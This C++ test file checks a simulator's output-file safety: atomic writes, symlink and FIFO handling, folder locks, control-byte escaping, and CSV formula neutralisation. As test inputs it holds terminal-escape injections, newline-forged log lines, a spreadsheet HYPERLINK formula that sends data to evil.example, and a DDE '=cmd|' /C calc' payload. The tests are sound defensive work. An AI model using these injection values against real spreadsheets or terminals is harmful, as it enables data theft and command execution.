// common/output_file.h: atomic outputs, exclusive temporaries, output identity; common/text.h (escaped echoes),
// common/input_file.h (regular, bounded inputs), common/dir_lock.h (output folder locks) and the sweep CSV's formula
// neutralisation (experiments/sweep.h).
#include <gtest/gtest.h>
#include <fcntl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <iostream>
#include <sstream>
#include <string>

#include "common/config.h"
#include "common/dir_lock.h"
#include "common/error.h"
#include "common/input_file.h"
#include "common/output_file.h"
#include "common/text.h"
#include "experiments/sweep.h"

namespace fs = std::filesystem;
using namespace shardsim;

namespace {

struct Scratch {
  fs::path dir;
  Scratch() {
    char tmpl[] = "/tmp/shardsim_output_file_test.XXXXXX";
    dir = ::mkdtemp(tmpl);
  }
  ~Scratch() { fs::remove_all(dir); }
  std::string operator/(const std::string& name) const { return (dir / name).string(); }
};

std::string slurp(const std::string& p) {
  std::ifstream in(p, std::ios::binary);
  std::stringstream ss;
  ss << in.rdbuf();
  return ss.str();
}

size_t temporaries(const fs::path& dir) {
  size_t n = 0;
  for (const auto& e : fs::directory_iterator(dir)) n += e.path().filename().string().find(".partial") != std::string::npos;
  return n;
}

TEST(EscapeControl, ControlBytesBecomeHexAndTheResultIsOneInertLine) {
  EXPECT_EQ(escape_control("\x1b]0;PWNED\a\x1b[2J64"), "\\x1b]0;PWNED\\x07\\x1b[2J64");
  EXPECT_EQ(escape_control("64\nshardsim: forged\r\n"), "64\\x0ashardsim: forged\\x0d\\x0a");
  EXPECT_EQ(escape_control(std::string("a\0b", 3)), "a\\x00b");
  EXPECT_EQ(escape_control("tab\there\x7f"), "tab\\x09here\\x7f");
  // UTF-8 text passes; C1 controls (U+009B is CSI on UTF-8 terminals) and invalid bytes do not.
  EXPECT_EQ(escape_control("caf\xc3\xa9 \xe2\x86\x92 \xf0\x9f\x98\x80"), "caf\xc3\xa9 \xe2\x86\x92 \xf0\x9f\x98\x80");
  EXPECT_EQ(escape_control("\xc2\x9b" "2J"), "\\xc2\\x9b2J");
  EXPECT_EQ(escape_control("\x9b\xff\xc3"), "\\x9b\\xff\\xc3");
  EXPECT_EQ(escape_control("\xed\xa0\x80"), "\\xed\\xa0\\x80");  // a UTF-16 surrogate is not UTF-8
  const std::string once = escape_control("x\x1by\n");
  EXPECT_EQ(escape_control(once), once);  // idempotent: messages wrapped twice stay the same
}

TEST(EscapeControl, ConfigErrorsEscapeWhatTheyEcho) {
  // The inputs: terminal escapes in an integer field, newlines forging a line, ESC in an unknown key.
  const auto message = [](const std::string& yaml, const auto& read) -> std::string {
    try {
      read(ConfigNode::load_string(yaml, "f.yaml"));
    } catch (const ConfigError& e) {
      return e.what();
    }
    return "no error";
  };
  const auto get_hidden = [](const ConfigNode& n) { (void)n.get_int("hidden"); };
  EXPECT_EQ(message("hidden: \"\\e]0;PWNED\\a\\e[2J64\"\n", get_hidden),
            "f.yaml:1: hidden: expected an integer, got '\\x1b]0;PWNED\\x07\\x1b[2J64'");
  EXPECT_EQ(message("hidden: \"64\\nshardsim: forged\"\n", get_hidden),
            "f.yaml:1: hidden: expected an integer, got '64\\x0ashardsim: forged'");
  const std::string unknown = message("\"k\\e[31m\": 1\n", [](const ConfigNode& n) { n.expect_keys({"hidden"}); });
  EXPECT_NE(unknown.find("unknown key 'k\\x1b[31m'"), std::string::npos) << unknown;
  EXPECT_EQ(unknown.find('\x1b'), std::string::npos);
}

TEST(InputFile, NotARegularFileIsSaidBeforeAnyWork) {
  Scratch s;
  { std::ofstream(s / "a.txt") << "hello"; }
  fs::create_directory(s / "d");
  ASSERT_EQ(::mkfifo((s / "fifo").c_str(), 0600), 0);
  EXPECT_EQ(not_a_regular_file(s / "a.txt"), "");
  EXPECT_EQ(not_a_regular_file(s / "missing"), "");
  EXPECT_EQ(not_a_regular_file(s / "d"), "is a directory");
  EXPECT_NE(not_a_regular_file(s / "fifo").find("is not a regular file"), std::string::npos);
  EXPECT_NE(not_a_regular_file("/dev/zero").find("is not a regular file"), std::string::npos);
}

TEST(DirLock, ASecondHolderIsRefusedNamingTheFirst) {
  Scratch s;
  {
    DirLock first(s.dir.string(), "sweep a.yaml");
    try {
      DirLock second(s.dir.string(), "sweep b.yaml");
      ADD_FAILURE() << "two locks on one folder";
    } catch (const UsageError& e) {
      const std::string m = e.what();
      EXPECT_NE(m.find("is in use by another command (pid " + std::to_string(::getpid())), std::string::npos) << m;
      EXPECT_NE(m.find("sweep a.yaml"), std::string::npos) << m;
    }
  }
  DirLock again(s.dir.string(), "sweep b.yaml");  // released with its holder
}

TEST(DirLock, AHolderThatIsGoneIsWaitedForNotReported) {
  // Issue 46 kind 12: a sweep killed with SIGKILL still held its lock for a moment (the resume right after said
  // "in use by another command (pid ...)"). Here the holder named in the lock file exits while a child of its,
  // sharing the locked descriptor, keeps the lock 300 ms longer: the next locker waits instead of refusing.
  Scratch s;
  int ready[2];
  ASSERT_EQ(::pipe(ready), 0);
  const pid_t holder = ::fork();
  if (holder == 0) {
    ::close(ready[0]);
    try {
      DirLock lock(s.dir.string(), "sweep killed.yaml");
      if (::fork() == 0) {  // keeps the open lock descriptor a little longer than its parent lives
        ::close(ready[1]);
        ::usleep(300 * 1000);
        ::_exit(0);
      }
      (void)!::write(ready[1], "x", 1);
    } catch (...) {
    }
    ::_exit(0);
  }
  ::close(ready[1]);
  char c;
  ASSERT_EQ(::read(ready[0], &c, 1), 1);
  ::close(ready[0]);
  int st = 0;
  ::waitpid(holder, &st, 0);  // the named holder is gone; its child still holds the lock
  EXPECT_NO_THROW(DirLock(s.dir.string(), "sweep resume.yaml"));
}

TEST(SweepCsv, FormulaCellsAreNeutralisedAndReadBack) {
  using experiments::csv_cell;
  using experiments::csv_uncell;
  for (const std::string v : {"=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd", "-2+3", "@SUM(A1)",
                              "\tx", "\rx", "=1", "'=x", "''+y"}) {
    EXPECT_EQ(csv_cell(v), "'" + v) << v;
    EXPECT_EQ(csv_uncell(csv_cell(v)), v) << v;
  }
  for (const std::string v : {"-1.5", "+2", "-1e-3", "ring8", "", "'quoted", "a=b"}) {
    EXPECT_EQ(csv_cell(v), v) << v;
    EXPECT_EQ(csv_uncell(csv_cell(v)), v) << v;
  }
  experiments::Row row;
  for (const auto& c : experiments::result_columns()) row[c] = "";
  row["key"] = "k";
  row["topology"] = "=cmd|' /C calc'!A0";
  row["sim_time_us"] = "-0.5";
  const std::string text = experiments::csv_header() + experiments::csv_row(row);
  EXPECT_NE(text.find(",'=cmd|' /C calc'!A0,"), std::string::npos) << text;
  EXPECT_NE(text.find(",-0.5,"), std::string::npos) << text;
  const auto rows = experiments::parse_csv(text, "r.csv");
  ASSERT_EQ(rows.size(), 1u);
  EXPECT_EQ(rows[0].at("topology"), "=cmd|' /C calc'!A0");
}

}  // namespace

TEST(OutputFile, WritesAndReplacesAtomically) {
  Scratch s;
  const std::string p = s / "a.json";
  write_file_atomic(p, "first\n");
  EXPECT_EQ(slurp(p), "first\n");
  write_file_atomic(p, "second, longer\n");
  EXPECT_EQ(slurp(p), "second, longer\n");
  EXPECT_EQ(temporaries(s.dir), 0u);
}

TEST(OutputFile, AbandonedWriteLeavesTheOldFileAndNoTemporary) {
  Scratch s;
  const std::string p = s / "r.csv";
  write_file_atomic(p, "old\n");
  {
    OutputFile f(p);
    f.write("new half");
    EXPECT_EQ(temporaries(s.dir), 1u);
    // no commit(): an exception or an early return
  }
  EXPECT_EQ(slurp(p), "old\n");
  EXPECT_EQ(temporaries(s.dir), 0u);
}

TEST(OutputFile, WriteErrorIsOneLineNamingTheFileAndCause) {
  // (A full disk is checked for real by tests/e2e/full_disk.sh; here: a directory that vanished.)
  Scratch s;
  const std::string p = s / "gone/x.csv";
  try {
    write_file_atomic(p, "a\n");
    FAIL() << "expected RuntimeFault";
  } catch (const RuntimeFault& e) {
    const std::string m = e.what();
    EXPECT_NE(m.find(p), std::string::npos) << m;
    EXPECT_NE(m.find("No such file or directory"), std::string::npos) << m;
    EXPECT_EQ(m.find('\n'), std::string::npos) << m;
  }
}

TEST(OutputFile, ASymlinkIsWrittenAtItsTargetAndStaysALink) {
  // Issue 46 kind 1: the atomic rename replaced the link itself (as root, `--csv /dev/stdout > out.txt` left
  // /dev/stdout a regular file). The link's target is replaced atomically now; the link and a planted
  // temporary-name link stay as they were.
  Scratch s;
  const std::string target = s / "target.txt";
  write_file_atomic(target, "old\n");
  const std::string p = s / "out.json";
  fs::create_symlink(s / "elsewhere.txt", p + ".partial");
  fs::create_symlink(target, p);
  EXPECT_NO_THROW(check_outputs_distinct({{"--json", p}}));
  write_file_atomic(p, "report\n");
  EXPECT_TRUE(fs::is_symlink(p)) << "the link is intact";
  EXPECT_EQ(slurp(target), "report\n") << "the content went where the link points";
  EXPECT_TRUE(fs::is_symlink(p + ".partial")) << "a planted file is left alone";
  EXPECT_FALSE(fs::exists(s / "elsewhere.txt"));
  EXPECT_EQ(temporaries(s.dir), 1u) << "only the planted link";
  // The link and its target are one output; a dangling link is refused before any work.
  EXPECT_THROW(check_outputs_distinct({{"--json", p}, {"--trace", target}}), UsageError);
  fs::create_symlink(s / "missing.txt", s / "dangling.json");
  EXPECT_THROW(check_outputs_distinct({{"--json", s / "dangling.json"}}), UsageError);
}

TEST(OutputFile, StreamsAreWrittenThroughNeverReplaced) {
  Scratch s;
  // A FIFO without a reader: refused before any work (exit 2), and the late write fails too; still a FIFO.
  const std::string fifo = s / "pipe";
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  try {
    check_outputs_distinct({{"--out", fifo}});
    FAIL() << "expected UsageError";
  } catch (const UsageError& e) {
    EXPECT_NE(std::string(e.what()).find("--out " + fifo + ": cannot open it for writing: no process has it open "
                                         "for reading"), std::string::npos) << e.what();
  }
  EXPECT_THROW(write_file_atomic(fifo, "data\n"), Error);
  struct stat st{};
  ASSERT_EQ(::lstat(fifo.c_str(), &st), 0);
  EXPECT_TRUE(S_ISFIFO(st.st_mode)) << "the FIFO is still there";
  EXPECT_EQ(temporaries(s.dir), 0u) << "the refused write left no temporary";
  // /dev/null through a symlink, and a block device or socket refused without being opened.
  fs::create_symlink("/dev/null", s / "null.json");
  EXPECT_NO_THROW(check_outputs_distinct({{"--json", s / "null.json"}}));
  write_file_atomic(s / "null.json", "gone\n");
  EXPECT_TRUE(fs::is_symlink(s / "null.json"));
  EXPECT_TRUE(fs::is_character_file("/dev/null"));
  // Standard output (a pipe here, as under `| tee`): /dev/stdout and a private link to it are written through,
  // after what stdio printed before, and neither link is touched.
  int fds[2];
  ASSERT_EQ(::pipe(fds), 0);
  std::fflush(stdout);
  const int saved = ::dup(STDOUT_FILENO);
  ASSERT_GE(::dup2(fds[1], STDOUT_FILENO), 0);
  ::close(fds[1]);
  fs::create_symlink("/dev/stdout", s / "out.csv");
  std::string got;
  try {
    std::printf("printed first\n");
    // Two outputs to one stream would interleave: refused (before anything moves), as the same file twice is.
    try {
      check_outputs_distinct({{"--csv", "/dev/stdout"}, {"--json", s / "out.csv"}});
      ADD_FAILURE() << "two outputs to standard output were accepted";
    } catch (const UsageError& e) {
      EXPECT_NE(std::string(e.what()).find("and --csv /dev/stdout both write standard output"), std::string::npos)
          << e.what();
    }
    write_file_atomic("/dev/stdout", "a,b\n");
    GrowingOutput g(s / "out.csv", "x\n");
    g.land();
    g.append("1\n");
  } catch (...) {
    ::dup2(saved, STDOUT_FILENO);
    throw;
  }
  std::fflush(stdout);
  ::dup2(saved, STDOUT_FILENO);
  ::close(saved);
  char buf[256];
  for (ssize_t n; (n = ::read(fds[0], buf, sizeof buf)) > 0;) got.append(buf, static_cast<size_t>(n));
  ::close(fds[0]);
  EXPECT_EQ(got, "printed first\na,b\nx\n1\n") << "in order, each row once";
  EXPECT_TRUE(fs::is_symlink("/dev/stdout"));
  EXPECT_TRUE(fs::is_symlink(s / "out.csv"));
  // Standard output redirected to a regular file (`--json /dev/stdout > out.txt`): appended through the
  // descriptor, in order; out.txt is not replaced (its inode and the earlier text stay).
  const std::string log = s / "out.txt";
  const int lf = ::open(log.c_str(), O_WRONLY | O_CREAT | O_TRUNC, 0644);
  ASSERT_GE(lf, 0);
  struct stat before{};
  ASSERT_EQ(::fstat(lf, &before), 0);
  const int saved2 = ::dup(STDOUT_FILENO);
  ::dup2(lf, STDOUT_FILENO);
  ::close(lf);
  std::printf("header\n");
  write_file_atomic("/dev/stdout", "{}\n");
  write_file_atomic(log, "[]\n");  // the same file by its name
  std::fflush(stdout);
  ::dup2(saved2, STDOUT_FILENO);
  ::close(saved2);
  struct stat after{};
  ASSERT_EQ(::stat(log.c_str(), &after), 0);
  EXPECT_EQ(before.st_ino, after.st_ino);
  EXPECT_EQ(slurp(log), "header\n{}\n[]\n");
  EXPECT_TRUE(fs::is_symlink("/dev/stdout"));
}

namespace {
// A child process with standard output and error on pipes (or both on one pipe, SAME) runs BODY; what each pipe
// got (error: "" when SAME).
std::pair<std::string, std::string> in_child(bool same, void (*body)()) {
  int out[2], err[2];
  if (::pipe(out) != 0 || ::pipe(err) != 0) return {"pipe failed", ""};
  std::fflush(nullptr);
  const pid_t pid = ::fork();
  if (pid == 0) {
    ::dup2(out[1], STDOUT_FILENO);
    ::dup2(same ? out[1] : err[1], STDERR_FILENO);
    ::close(out[0]), ::close(out[1]), ::close(err[0]), ::close(err[1]);
    try {
      body();
    } catch (const std::exception& e) {
      std::fprintf(stderr, "child: %s\n", e.what());
    }
    std::fflush(nullptr);
    ::_exit(0);
  }
  ::close(out[1]), ::close(err[1]);
  auto drain = [](int fd) {
    std::string got;
    char buf[256];
    for (ssize_t n; (n = ::read(fd, buf, sizeof buf)) > 0;) got.append(buf, size_t(n));
    ::close(fd);
    return got;
  };
  std::string o = drain(out[0]), e = drain(err[0]);
  int status = 0;
  ::waitpid(pid, &status, 0);
  return {o, e};
}

void report_and_json() {
  std::printf("header\n");
  check_outputs_distinct({{"--json", "/dev/stdout"}, {"--trace", "/dev/null"}, {"--csv", "/dev/null"}});
  std::printf("report\n");
  std::cout << "more report\n";
  write_file_atomic("/dev/stdout", "{}\n");
  check_outputs_distinct({{"--json", "/dev/stdout"}});  // a command checking its outputs twice (train)
  write_file_atomic("/dev/stdout", "[]\n");
}
}  // namespace

// An output on standard output (`--json /dev/stdout`): the text the command prints moves to standard error, so
// the output is never interleaved with the report; /dev/null twice is fine (nothing is kept).
TEST(OutputFile, TextMovesOffStandardOutputWhenAnOutputWritesThere) {
  const auto [out, err] = in_child(false, report_and_json);
  EXPECT_EQ(out, "header\n{}\n[]\n");
  EXPECT_EQ(err, "report\nmore report\n");
  const auto [both, none] = in_child(true, report_and_json);  // 2>&1: the user's merge, in order
  EXPECT_EQ(both, "header\nreport\nmore report\n{}\n[]\n");
  EXPECT_EQ(none, "");
}

// A directory where no file can be created (/proc), a name that fits but whose temporary does not, /dev/full:
// found when the write failed after the whole run (exit 3); refused before it now.
TEST(OutputFile, AnOutputThatCannotBeCreatedIsRefusedBeforeAnyWork) {
  Scratch s;
  auto refused = [](const std::string& path) {
    try {
      check_outputs_distinct({{"--json", path}});
    } catch (const UsageError& e) {
      return std::string(e.what());
    }
    return std::string("accepted");
  };
  const std::string proc = refused("/proc/foo.json");  // as root, /proc passes access(2): the probe finds it
  EXPECT_TRUE(proc.find("--json /proc/foo.json: cannot create a file next to it") != std::string::npos ||
              (::geteuid() != 0 && proc.find("not writable") != std::string::npos)) << proc;
  const std::string long_name = s / (std::string(240, 'a') + ".json");  // 245 characters: a name, not its temporary
  EXPECT_NE(refused(long_name).find("File name too long (the file name and its temporary"), std::string::npos)
      << refused(long_name);
  EXPECT_EQ(refused(s / "fine.json"), "accepted");
  EXPECT_EQ(temporaries(s.dir), 0u) << "the probe left its temporary";
  EXPECT_NE(refused("/dev/full").find("/dev/full, where every write fails"), std::string::npos);
}

TEST(OutputFile, AnOutputUnderARegularFileIsRefusedBeforeAnyWork) {
  // Issue 46 kind 7: `--json file.txt/x.json` ran the whole job, then exited 3 ("no free temporary name").
  Scratch s;
  write_file_atomic(s / "file.txt", "x\n");
  try {
    check_outputs_distinct({{"--json", s / "file.txt/x.json"}});
    FAIL() << "expected UsageError";
  } catch (const UsageError& e) {
    EXPECT_NE(std::string(e.what()).find("is not a directory"), std::string::npos) << e.what();
  }
  try {
    write_file_atomic(s / "file.txt/x.json", "{}\n");
    FAIL() << "expected an error";
  } catch (const Error& e) {
    EXPECT_EQ(std::string(e.what()).find("no free temporary name"), std::string::npos) << e.what();
  }
}

TEST(OutputFile, TemporaryIsCreatedExclusivelyWithTheUsualMode) {
  Scratch s;
  const std::string p = s / "m.txt";
  const mode_t mask = ::umask(022);
  ::umask(mask);
  TempFile t = create_temp_for(p);
  struct stat st{};
  ASSERT_EQ(::fstat(t.fd, &st), 0);
  EXPECT_TRUE(S_ISREG(st.st_mode));
  EXPECT_EQ(st.st_mode & 0777, 0666u & ~mask) << "like open(2) with 0666, not mkstemp's 0600";
  EXPECT_EQ(t.name.rfind(p + ".partial.", 0), 0u) << t.name;
  ::close(t.fd);
  commit_temp(t.name, p);
  EXPECT_TRUE(fs::exists(p));
  EXPECT_EQ(temporaries(s.dir), 0u);
}

// A pid that existed and is gone now: a child that exited and was reaped.
pid_t dead_pid() {
  const pid_t c = ::fork();
  if (c == 0) ::_exit(0);
  int st = 0;
  ::waitpid(c, &st, 0);
  return c;
}

TEST(OutputFile, SweepsOnlyDeadWritersTemporaries) {
  Scratch s;
  const std::string p = s / "keep.h5";
  const std::string mine = temp_owner_tag();  // p<PID>h<HOST>
  const std::string host = mine.substr(mine.find('h'));
  const std::string dead = p + ".partial.p" + std::to_string(dead_pid()) + host + ".Ab12Cd";
  const std::string dead_space = dead + ".space";
  const std::string live = p + ".partial." + mine + ".Zz99Yy";                     // this process: alive
  const std::string other_host = p + ".partial.p" + std::to_string(dead_pid()) + "h00000000.Qq11Ww";
  const std::string old_style = p + ".partial.Xy12Ab";                              // no owner: unknown
  for (const auto& f : {dead, dead_space, live, other_host, old_style}) write_file_atomic(f, "x");
  if (host == "h00000000") GTEST_SKIP() << "this host's name hashes to the test's 'other host'";
  const std::string link = p + ".partial.p" + std::to_string(dead_pid()) + host + ".Ln00Ln";
  fs::create_symlink(s / "victim", link);
  const auto removed = sweep_stale_temps(p);
  EXPECT_EQ(removed.size(), 2u);
  EXPECT_FALSE(fs::exists(dead));
  EXPECT_FALSE(fs::exists(dead_space));
  for (const auto& f : {live, other_host, old_style}) EXPECT_TRUE(fs::exists(f)) << f;
  EXPECT_TRUE(fs::is_symlink(link)) << "a symlink is never removed";
  // New temporaries carry this process's owner tag, so a later sweep can judge them.
  TempFile t = create_temp_for(p);
  EXPECT_EQ(t.name.rfind(p + ".partial." + mine + ".", 0), 0u) << t.name;
  ::close(t.fd);
  ::unlink(t.name.c_str());
}

TEST(OutputFile, GrowingOutputAlwaysHoldsCompleteRows) {
  Scratch s;
  const std::string p = s / "rows.csv";
  GrowingOutput g(p, "a,b\n");
  g.land();
  EXPECT_EQ(slurp(p), "a,b\n");
  g.append("1,2\n");
  EXPECT_EQ(slurp(p), "a,b\n1,2\n");
  g.append("3,4\n");
  EXPECT_EQ(slurp(p), "a,b\n1,2\n3,4\n");
}

TEST(OutputIdentity, SameFileBeforeItExists) {
  Scratch s;
  const std::string cwd = fs::current_path().string();
  fs::current_path(s.dir);
  EXPECT_EQ(output_identity("b.json"), output_identity("./b.json"));
  fs::create_directory("d");
  EXPECT_EQ(output_identity("d/../b.json"), output_identity("b.json"));
  EXPECT_NE(output_identity("d/b.json"), output_identity("b.json"));
  EXPECT_THROW(check_outputs_distinct({{"--trace", "b.json"}, {"--json", "./b.json"}}), UsageError);
  EXPECT_NO_THROW(check_outputs_distinct({{"--trace", "t.json"}, {"--json", "./b.json"}}));
  write_file_atomic("cfg.yaml", "x: 1\n");
  EXPECT_THROW(check_outputs_distinct({{"--json", "./d/../cfg.yaml"}}, {{"the config file", "cfg.yaml"}}), UsageError);
  EXPECT_THROW(output_identity("no/such/dir/x.json"), UsageError);
  EXPECT_THROW(output_identity("d/"), UsageError);
  fs::current_path(cwd);
}

TEST(OutputIdentity, AnOutputNeverReplacesAnInputByAnyName) {
  // Issue 46 kind 8: `ckpt convert X H` with H a hard link of X was accepted; a config's own topology file given as
  // --json was overwritten (it is read after the outputs are checked).
  Scratch s;
  write_file_atomic(s / "in.h5", "data\n");
  ASSERT_EQ(::link((s / "in.h5").c_str(), (s / "hard.h5").c_str()), 0);
  EXPECT_THROW(check_outputs_distinct({{"OUT", s / "hard.h5"}}, {{"IN", s / "in.h5"}}), UsageError);
  write_file_atomic(s / "a.json", "{}\n");
  ASSERT_EQ(::link((s / "a.json").c_str(), (s / "b.json").c_str()), 0);
  EXPECT_THROW(check_outputs_distinct({{"--json", s / "a.json"}, {"--trace", s / "b.json"}}), UsageError);
  // Read first, named as an output after: refused; named as an output first, read after: refused.
  write_file_atomic(s / "topo.yaml", "topology: {kind: ring, chips: 2}\n");
  (void)read_input_file(s / "topo.yaml", 1 << 20, "a config file");
  try {
    check_outputs_distinct({{"--json", s / "topo.yaml"}});
    FAIL() << "expected UsageError";
  } catch (const UsageError& e) {
    EXPECT_NE(std::string(e.what()).find("would overwrite a config file this command reads"), std::string::npos) << e.what();
  }
  write_file_atomic(s / "t2.yaml", "topology: {kind: ring, chips: 2}\n");
  ASSERT_EQ(::link((s / "t2.yaml").c_str(), (s / "t2_link.yaml").c_str()), 0);
  check_outputs_distinct({{"--trace", s / "t2_link.yaml"}});
  EXPECT_THROW((void)ConfigNode::load_file(s / "t2.yaml"), UsageError);
  EXPECT_EQ(slurp(s / "t2.yaml"), "topology: {kind: ring, chips: 2}\n");
  // A different file at a path used before matches nothing (compared by the inode now).
  fs::remove(s / "t2_link.yaml");
  EXPECT_NO_THROW((void)ConfigNode::load_file(s / "t2.yaml"));
}
